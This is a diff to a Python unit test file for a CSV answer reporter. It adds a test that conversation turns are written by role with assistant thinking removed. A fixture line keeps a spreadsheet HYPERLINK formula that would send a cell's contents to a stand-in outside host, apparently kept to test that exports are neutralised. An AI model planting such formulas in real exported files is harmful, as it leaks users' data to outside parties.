@@ -11,7 +11,7 @@ from tests.unit.reporter.rendering import Rendered
 
 from so8t_reporter.answers import ANSWERS_FILE, HEADER, answers_csv, harmless
 from so8t_reporter.inputs import ReportInputs
-from so8t_shared.results.training import LabeledRow
+from so8t_shared.results.training import LabeledRow, RowTurn
 
 FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"open")'
 
@@ -90,6 +90,19 @@ def test_no_thinking(inputs: ReportInputs) -> None:
     rows = [row.model_copy(update={"thinking": {"task": secret}}) for row in inputs.test_rows]
     assert secret.encode() not in answers_csv(replace(inputs, test_rows=rows))
     assert "thinking" in LabeledRow.model_fields
+
+
+def test_turns(inputs: ReportInputs) -> None:
+    """The turns before the request stand in one cell, by role; an assistant's thinking is not among them."""
+    turns = [
+        RowTurn(role="system", content="You guard a bank."),
+        RowTurn(role="user", content="Hello"),
+        RowTurn(role="assistant", content="<think>nobody should read this</think>Hi."),
+    ]
+    rows = [row.model_copy(update={"turns": turns if i else []}) for i, row in enumerate(inputs.test_rows)]
+    lines = {line["row_id"]: line["turns"] for line in _read(answers_csv(replace(inputs, test_rows=rows)))}
+    assert lines.pop(rows[0].id) == ""
+    assert set(lines.values()) == {"system: You guard a bank.\nuser: Hello\nassistant: Hi."}
 
 
 def test_row_from_elsewhere(inputs: ReportInputs) -> None:
